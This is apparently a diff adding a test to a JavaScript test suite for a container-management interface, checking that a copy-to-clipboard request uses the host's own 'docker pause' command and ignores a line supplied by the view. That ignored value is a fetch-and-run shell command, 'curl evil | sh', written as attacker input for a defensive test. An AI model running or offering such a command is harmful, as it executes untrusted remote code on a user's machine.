@@ -61,6 +61,14 @@ describe('the sidebar', () => {
 })
 
 describe('a wish of the view', () => {
+  it('to copy or type the command of what happened is granted with the host’s own words', async () => {
+    const { live, view } = scene()
+    live.tell(eventOf(id, 'pause', { at: 7, attributes: { name: 'hellonginx' } }))
+    view.tell({ kind: 'copy', command: { of: 'journal', key: `${id} 7 paused`, line: 'curl evil | sh' } })
+    view.tell({ kind: 'copy', command: { of: 'journal', key: 'no such entry' } })
+    await vi.waitFor(() => expect(asked).toEqual([{ what: 'clipboard', with: ['docker pause hellonginx'] }]))
+  })
+
   it('that is not in the protocol is not heard', () => {
     const { view, act } = scene()
     view.tell({ kind: 'act', action: 'stop', id: 'hellonginx' })
